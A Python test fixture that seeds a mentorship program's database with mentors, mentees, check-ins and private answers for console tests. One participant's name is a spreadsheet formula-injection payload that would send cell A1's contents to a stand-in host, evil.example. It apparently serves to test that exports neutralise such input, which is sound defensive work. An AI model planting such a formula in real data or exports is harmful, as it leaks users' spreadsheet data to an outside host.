"""What the console's read pages show, seeded through the store functions the
activities use, on top of ``seed_programs`` (program A managed by Anna,
program B by Ben): pairs, check-ins and answers whose figures the tests know.

Cohort A (``hr_reads_answers`` false): Bo mentors Ana (held, held, then
graduated) and the hostile-named Hal (not met, missed: at risk in week 3);
Wes waits. Cohort B: Sal mentors Sue, one check-in held.
"""

from __future__ import annotations

from datetime import UTC, datetime, timedelta

from sqlalchemy.orm import Session

from mentorflow import models
from mentorflow.cohorts.states import ApplicationStatus
from mentorflow.models import Role
from mentorflow.store import cohorts
from mentorflow.store import mentorships as store
from mentorflow.store.db import make_engine, make_sessionmaker
from tests.support.hr import COHORT_A, COHORT_B, PROGRAM_A, PROGRAM_B

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Open")'
#: Words Ana wrote; never shown while the program keeps answers private.
PRIVATE_TEXT = "SECRETNOTE the migration deadline frightens me"
PRIVATE_B = "SECRETB quota pressure"
INTRODUCTION = "Introduced Ana to Priya in Payments"
#: Three weeks ago (a Monday or not): weeks 1, 2 and 3 up to today.
START = datetime.now(UTC).replace(hour=9, minute=0, second=0, microsecond=0) - timedelta(days=20)


def _person(employee_id: str, name: str) -> models.Participant:
    return models.Participant(
        employee_id=employee_id, email=f"{employee_id.lower()}@example.com", name=name
    )


BO = _person("B2", "Bo Builder")
ANA = _person("A1", "Ana Applicant")
HAL = _person("H1", HOSTILE_NAME)
WES = _person("W1", "Wes Waiting")
SAL, SUE = _person("S1", "Sal Seller"), _person("S2", "Sue Seller")
PAIR_ANA = models.mentorship_workflow_id(COHORT_A, BO.employee_id, ANA.employee_id)
PAIR_HAL = models.mentorship_workflow_id(COHORT_A, BO.employee_id, HAL.employee_id)
PAIR_SUE = models.mentorship_workflow_id(COHORT_B, SAL.employee_id, SUE.employee_id)


def _pair(
    session: Session,
    pair: str,
    cohort: str,
    program: str,
    mentor: models.Participant,
    mentee: models.Participant,
) -> None:
    store.record_mentorship_started(
        session,
        models.MentorshipRecord(
            mentorship_id=pair,
            cohort=cohort,
            program=models.ProgramSettings(program_name=program),
            mentor=mentor,
            mentee=mentee,
            started_at=START,
        ),
    )


def _checkin(
    session: Session,
    pair: str,
    number: int,
    days: int,
    outcome: models.CheckInOutcome,
    answers: list[tuple[models.Participant, int, dict[str, str]]],
) -> None:
    opens = START + timedelta(days=days)
    store.record_checkin_opened(
        session,
        models.CheckInOpened(
            mentorship_id=pair, number=number, due_date=opens.date(), opens={}, closes={}
        ),
    )
    for by, value, said in answers:
        store.record_checkin_answer(
            session,
            models.CheckInAnswerRecord(
                mentorship_id=pair,
                answer=models.CheckInAnswer(
                    by=by.employee_id,
                    number=number,
                    met=models.MeetingStatus.YES,
                    value=value,
                    **said,
                ),
                submitted_at=opens + timedelta(hours=2),
            ),
        )
    store.record_checkin_closed(
        session,
        models.CheckInClosed(
            mentorship_id=pair, number=number, outcome=outcome, closed_at=opens + timedelta(days=2)
        ),
    )


def seed_insights(db_url: str) -> None:
    held, missed, not_met = (
        models.CheckInOutcome.HELD,
        models.CheckInOutcome.MISSED,
        models.CheckInOutcome.NOT_MET,
    )
    engine = make_engine(db_url)
    with make_sessionmaker(engine).begin() as session:
        for person in (HAL, WES, SAL, SUE):
            store.upsert_person(session, person)
        for person in (HAL, WES):
            cohorts.upsert_application(
                session,
                cohorts.NewApplication(
                    cohort=COHORT_A, employee_id=person.employee_id, role=Role.MENTEE, source="csv"
                ),
            )
        for person, status in (
            (ANA, ApplicationStatus.MATCHED),
            (HAL, ApplicationStatus.MATCHED),
            (WES, ApplicationStatus.WAITLISTED),
        ):
            cohorts.set_application_status(
                session, COHORT_A, person.employee_id, Role.MENTEE, status
            )
        _pair(session, PAIR_ANA, COHORT_A, PROGRAM_A, BO, ANA)
        _pair(session, PAIR_HAL, COHORT_A, PROGRAM_A, BO, HAL)
        _pair(session, PAIR_SUE, COHORT_B, PROGRAM_B, SAL, SUE)
        _checkin(
            session,
            PAIR_ANA,
            1,
            7,
            held,
            [(BO, 4, {"introductions": INTRODUCTION}), (ANA, 5, {"challenges": PRIVATE_TEXT})],
        )
        _checkin(
            session,
            PAIR_HAL,
            1,
            7,
            not_met,
            [
                (
                    HAL,
                    2,
                    {
                        "challenges": "Deadline after deadline",
                        "upcoming_decisions": "Stay or go",
                        "blockers": "Waiting on access",
                    },
                )
            ],
        )
        _checkin(session, PAIR_ANA, 2, 14, held, [(BO, 3, {"notes": "fine"})])
        _checkin(session, PAIR_HAL, 2, 14, missed, [])
        _checkin(session, PAIR_SUE, 1, 7, held, [(SAL, 5, {}), (SUE, 5, {"notes": PRIVATE_B})])
        store.record_status(
            session,
            models.StatusRecord(
                mentorship_id=PAIR_ANA,
                phase=models.Phase.CLOSED,
                outcome=models.Outcome.GRADUATED,
                at=START + timedelta(days=18),
            ),
        )
    engine.dispose()
